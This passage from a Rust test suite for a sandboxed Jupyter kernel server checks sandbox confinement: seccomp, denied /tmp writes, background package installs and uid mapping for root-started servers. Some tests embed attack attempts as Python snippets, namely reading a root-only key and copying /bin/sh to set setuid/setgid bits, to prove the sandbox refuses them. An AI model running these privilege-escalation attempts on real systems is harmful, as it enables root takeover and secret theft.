        t.contains("cannot start") && t.contains("rolled back") && t.contains("works again"),
        "{t}"
    );
    assert_eq!(version("kmcp-breaker"), "missing");
    // A new kernel still starts.
    let r = s.call("restart_kernel", json!({})).await;
    assert!(!is_error(&r), "{}", text(&r));
    let r = s.exec("import jupyter_client\n1 + 1").await;
    assert_eq!(text(&r), "2");
    s.close().await;
}

#[tokio::test]
async fn without_namespaces_the_seams_hold_and_tmp_says_what_works() {
    let data = data_dir();
    let out = tempdir("kmcp-seam-out-");
    let s = Server::start_opts(
        &["--no-namespaces"],
        &[("KERNEL_MCP_DATA_DIR", data.as_str())],
        &[],
        true,
    )
    .await;
    // The host's /tmp is denied here; the note points at what works, and that does work.
    let name = format!("/tmp/kmcp-denied-{}", std::process::id());
    let r = s.exec(&format!("open({name:?}, 'w')")).await;
    assert!(is_error(&r));
    let t = texts(&r);
    assert!(
        t.iter().any(|x| x.starts_with("[sandbox: ")
            && x.contains("tempfile")
            && !x.contains("--allow-read")),
        "{t:?}"
    );
    assert!(!Path::new(&name).exists());
    let r = s
        .exec("import tempfile\nwith tempfile.NamedTemporaryFile() as f:\n    f.write(b'x')\nprint('tempfile ok')")
        .await;
    assert_eq!(text(&r).trim(), "tempfile ok", "{}", text(&r));
    // seccomp holds without the namespaces too.
    let r = s
        .exec("import socket\ntry:\n    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)\n    print('open')\nexcept OSError as e:\n    print(e.errno)")
        .await;
    assert_eq!(text(&r).trim(), "1");
    // And the host-side helpers still ignore what the kernel plants in their way.
    let r = s.exec(&plant_code(out.path())).await;
    assert_eq!(text(&r).trim(), "planted");
    let r = s.call("list_packages", json!({"filter": "pandas"})).await;
    assert!(text(&r).contains("pandas"), "{}", text(&r));
    let r = s
        .call("install_package", json!({"packages": ["numpy"]}))
        .await;
    assert!(!is_error(&r), "{}", text(&r));
    assert_no_marks(out.path());
    s.close().await;
}

/// An install that outlives its call: the build of a source package waits until the test lets
/// it go (it connects to a listener here and blocks on a reply). With `return_after: 1` the
/// call returns with a note naming the run; check_run then gets the install's result once.
#[tokio::test]
async fn an_install_outlives_its_call_as_a_run() {
    let site = tempdir("kmcp-index-");
    let index = Index::serve(site.path());
    let gate = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = gate.local_addr().unwrap().port();
    let name = format!(
        "kmcp-gated-{}",
        &uuid::Uuid::new_v4().simple().to_string()[..8]
    );
    let module = name.replace('-', "_");
    let backend = format!(
        r#"import os, zipfile, base64, hashlib, socket

def get_requires_for_build_wheel(config_settings=None):
    return []

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    s = socket.create_connection(('127.0.0.1', {port}), timeout=120)
    s.settimeout(120)
    s.recv(1)
    s.close()
    name = '{module}-0.1-py3-none-any.whl'
    files = {{
        '{module}/__init__.py': 'VALUE = 7\n',
        '{module}-0.1.dist-info/METADATA': 'Metadata-Version: 2.1\nName: {name}\nVersion: 0.1\n',
        '{module}-0.1.dist-info/WHEEL': 'Wheel-Version: 1.0\nGenerator: gated\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
    }}
    record = []
    with zipfile.ZipFile(os.path.join(wheel_directory, name), 'w') as z:
        for path, text in files.items():
            data = text.encode()
            z.writestr(path, data)
            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()
            record.append('%s,sha256=%s,%d' % (path, digest, len(data)))
        record.append('{module}-0.1.dist-info/RECORD,,')
        z.writestr('{module}-0.1.dist-info/RECORD', '\n'.join(record) + '\n')
    return name
"#
    );
    sdist(site.path(), &name, "gated_backend", &backend);
    let home = home_naming_index(&index.url);
    let s = server_with_home(home.path()).await;
    let r = s
        .call(
            "install_package",
            json!({"packages": [name.as_str()], "return_after": 1}),
        )
        .await;
    assert!(!is_error(&r), "{}", text(&r));
    assert!(
        text(&r).starts_with("[still installing as run 1 ("),
        "{}",
        text(&r)
    );
    // Meanwhile the kernel answers (the install is not in its queue).
    assert_eq!(text(&s.exec("6 * 7").await), "42");
    let r = s
        .call("check_run", json!({"run": 1, "wait_seconds": 1}))
        .await;
    assert!(
        text(&r).starts_with("[still installing as run 1"),
        "{}",
        text(&r)
    );
    // Let the build finish.
    let (mut conn, _) = tokio::time::timeout(crate::harness::HANG, gate.accept())
        .await
        .expect("the build never connected")
        .unwrap();
    tokio::io::AsyncWriteExt::write_all(&mut conn, b"go")
        .await
        .unwrap();
    let end = std::time::Instant::now() + crate::harness::HANG;
    let result = loop {
        let r = s
            .call("check_run", json!({"run": 1, "wait_seconds": 30}))
            .await;
        if text(&r).contains("[the run ") {
            break r;
        }
        assert!(std::time::Instant::now() < end, "{}", text(&r));
    };
    assert!(!is_error(&result), "{}", text(&result));
    assert!(text(&result).contains(&name), "{}", text(&result));
    assert!(
        text(&result).contains("[the run finished after"),
        "{}",
        text(&result)
    );
    // Reported once; asked by its number, the same result is shown again.
    let r = s.call("check_run", json!({})).await;
    assert!(
        text(&r).contains("has ended and its result was returned already"),
        "{}",
        text(&r)
    );
    let r = s.call("check_run", json!({"run": 1})).await;
    assert!(text(&r).contains(&name), "{}", text(&r));
    assert!(text(&r).contains("shown again"), "{}", text(&r));
    let r = s.exec(&format!("import {module}\n{module}.VALUE")).await;
    assert_eq!(text(&r), "7", "{}", text(&r));
    s.close().await;
    uninstall(&name);
}

/// Item 5: a server started as root runs the kernel as an unprivileged host uid (its user
/// namespace maps it there; the workspace is reached through an idmapped mount), so a root-only
/// file in a folder the sandbox shows is closed to it, while the workspace stays its own and
/// what it writes there stays the user's. Applies to a server started as root (CI here); as
/// another user the kernel already has that user's uid and there is nothing to test.
#[tokio::test]
async fn a_root_started_server_runs_the_kernel_as_an_unprivileged_uid() {
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    if !nix::unistd::getuid().is_root() {
        eprintln!("not root: the kernel already runs as this user's uid; skipped");
        return;
    }
    let data = data_dir();
    // A folder shown read-only (--allow-read) holding a root-only key and a public file.
    let shown = tempfile::Builder::new()
        .prefix("kmcp-shown-")
        .tempdir()
        .unwrap();
    let key = shown.path().join("server.key");
    std::fs::write(&key, "ROOT-ONLY-KEY").unwrap();
    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600)).unwrap();
    std::fs::write(shown.path().join("public.txt"), "public").unwrap();
    let dir = shown.path().display().to_string();
    let s = Server::start_with_env(
        &["--allow-read", &dir],
        &[("KERNEL_MCP_DATA_DIR", data.as_str())],
    )
    .await;
    // A root-owned, owner-writable-only file the kernel must still be able to overwrite.
    let ws = s.ws();
    let mine = ws.join("mine.txt");
    std::fs::write(&mine, "old").unwrap();
    std::fs::set_permissions(&mine, std::fs::Permissions::from_mode(0o600)).unwrap();
    let r = s
        .exec(&format!(
            "import os\ndef peek(p):\n    try:\n        return open(p).read()\n    except OSError as e:\n        return f'errno {{e.errno}}'\nprint(peek({k:?}), peek({p:?}))\nopen('mine.txt', 'w').write('new')\nopen('made.txt', 'w').write('made')\nm = [l.split() for l in open('/proc/self/uid_map')]\nprint(os.getuid(), [int(h) + os.getuid() - int(i) for i, h, n in m if int(i) <= os.getuid() < int(i) + int(n)])",
            k = key.display().to_string(),
            p = format!("{dir}/public.txt"),
        ))
        .await;
    let t = text(&r);
    let lines: Vec<&str> = t.lines().collect();
    // The attack: host root's uid would read its own key by owner match.
    assert_eq!(lines.first().copied(), Some("errno 13 public"), "{t}");
    // The kernel's uid inside maps to a host uid other than root's.
    let ids = lines.get(1).copied().unwrap_or_default();
    assert!(
        ids.starts_with("1000 [") && !ids.ends_with("[0]") && ids.ends_with(']'),
        "the kernel's uid maps to host root: {ids}"
    );
    // The workspace stays the kernel's to write, and its files stay the user's (root's).
    assert_eq!(std::fs::read_to_string(&mine).unwrap(), "new");
    let made = std::fs::metadata(ws.join("made.txt")).unwrap();
    assert_eq!((made.uid(), made.gid()), (0, 0));
    let sb = s.call("get_environment", json!({})).await;
    assert!(text(&sb).contains("not root"), "{}", text(&sb));
    s.close().await;
}

/// Item 5's fallback: where the workspace's filesystem cannot be idmapped (ramfs here, as NFS
/// or an old kernel elsewhere), a root-started server still runs the kernel (as host root's
/// uid, uid 1000 inside, no capabilities), and the sandbox status says so in a warning. Root
/// only (it mounts a ramfs).
#[tokio::test]
async fn without_idmapped_mounts_a_root_started_kernel_still_runs_and_says_so() {
    if !nix::unistd::getuid().is_root() {
        eprintln!("not root: no idmapped mounts are tried; skipped");
        return;
    }
    struct Unmount(PathBuf);
    impl Drop for Unmount {
        fn drop(&mut self) {
            let _ = nix::mount::umount2(&self.0, nix::mount::MntFlags::MNT_DETACH);
        }
    }
    let dir = tempfile::Builder::new()
        .prefix("kmcp-ramfs-")
        .tempdir()
        .unwrap();
    let ws = dir.path().join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    nix::mount::mount(
        Some("ramfs"),
        &ws,
        Some("ramfs"),
        nix::mount::MsFlags::empty(),
        Some("mode=0755"),
    )
    .unwrap();
    let _unmount = Unmount(ws.clone());
    let s = Server::start_on(&ws, &[]).await;
    let r = s
        .exec("import os\nopen('made.txt', 'w').write('made')\nprint(os.getuid(), open('made.txt').read())")
        .await;
    assert_eq!(text(&r).trim_end(), "1000 made", "{}", text(&r));
    let env = s.call("get_environment", json!({})).await;
    let t = text(&env);
    assert!(
        t.contains("keeps host root's uid (idmapped mounts are not available here"),
        "{t}"
    );
    s.close().await;
}

/// Item 5, the owner's side: a root-started server on a folder owned by another user runs the
/// kernel as that user for the folder's files: what it creates belongs on disk to the folder's
/// owner, and a root-only file put there by root stays closed to it. Root only.
#[tokio::test]
async fn a_root_started_kernel_writes_a_users_workspace_as_that_user() {
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    if !nix::unistd::getuid().is_root() {
        eprintln!("not root: the kernel already runs as this user's uid; skipped");
        return;
    }
    let dir = tempfile::Builder::new()
        .prefix("kmcp-owned-")
        .tempdir()
        .unwrap();
    let ws = dir.path().join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    let user = nix::unistd::Uid::from_raw(4242);
    let group = nix::unistd::Gid::from_raw(4242);
    nix::unistd::chown(&ws, Some(user), Some(group)).unwrap();
    let secret = ws.join("root-only.txt");
    std::fs::write(&secret, "ROOT-ONLY").unwrap();
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o600)).unwrap();
    let s = Server::start_on(&ws, &[]).await;
    let r = s
        .exec("def peek(p):\n    try:\n        return open(p).read()\n    except OSError as e:\n        return f'errno {e.errno}'\nopen('made.txt', 'w').write('made')\nprint(peek('root-only.txt'), peek('made.txt'))")
        .await;
    assert_eq!(text(&r).trim_end(), "errno 13 made", "{}", text(&r));
    let made = std::fs::metadata(ws.join("made.txt")).unwrap();
    assert_eq!((made.uid(), made.gid()), (4242, 4242));
    s.close().await;
}

/// The attack: kernel code makes a setuid (or setgid) copy of a shell in the workspace. The
/// workspace is an idmapped mount, so on the host the copy belongs to the folder's owner (root
/// for a server run as root), and its bit would give any local user who can reach the folder
/// that owner's rights (inside the sandbox `nosuid`/`no_new_privs` disarm it, outside nothing
/// does). Every way of setting the bits is refused (chmod, fchmod, a mode at creation, mknod)
/// and no file in the workspace ends up with them.
#[cfg(target_os = "linux")]
#[tokio::test]
async fn no_setuid_or_setgid_file_can_be_made_in_the_workspace() {
    use std::os::unix::fs::PermissionsExt;
    let s = Server::start().await;
    let r = s
        .exec("import os, shutil, stat\nshutil.copyfile('/bin/sh', 'rootsh')\nos.chmod('rootsh', 0o755)\ndef tried(f):\n    try:\n        f()\n        return 'done'\n    except OSError as e:\n        return f'errno {e.errno}'\nfd = os.open('viafd', os.O_CREAT | os.O_WRONLY, 0o755)\nprint(tried(lambda: os.chmod('rootsh', 0o4755)), tried(lambda: os.chmod('rootsh', 0o2755)), tried(lambda: os.chmod('rootsh', 0o6755)), tried(lambda: os.fchmod(fd, 0o4755)), tried(lambda: os.close(os.open('created', os.O_CREAT | os.O_WRONLY, 0o4755))), tried(lambda: os.mknod('node', stat.S_IFREG | 0o4755)), tried(lambda: os.chmod('rootsh', 0o755)))")
        .await;
    let t = text(&r);
    assert_eq!(
        t.trim(),
        "errno 1 errno 1 errno 1 errno 1 errno 1 errno 1 done",
        "{t}"
    );
    let mut marked = Vec::new();
    for e in std::fs::read_dir(s.ws()).unwrap().flatten() {
        let mode = e.metadata().unwrap().permissions().mode();
        if mode & 0o6000 != 0 {
            marked.push(format!("{} {mode:o}", e.path().display()));
        }
    }
    assert!(
        marked.is_empty(),
        "setuid/setgid files on the host: {marked:?}"
    );
    s.close().await;
}
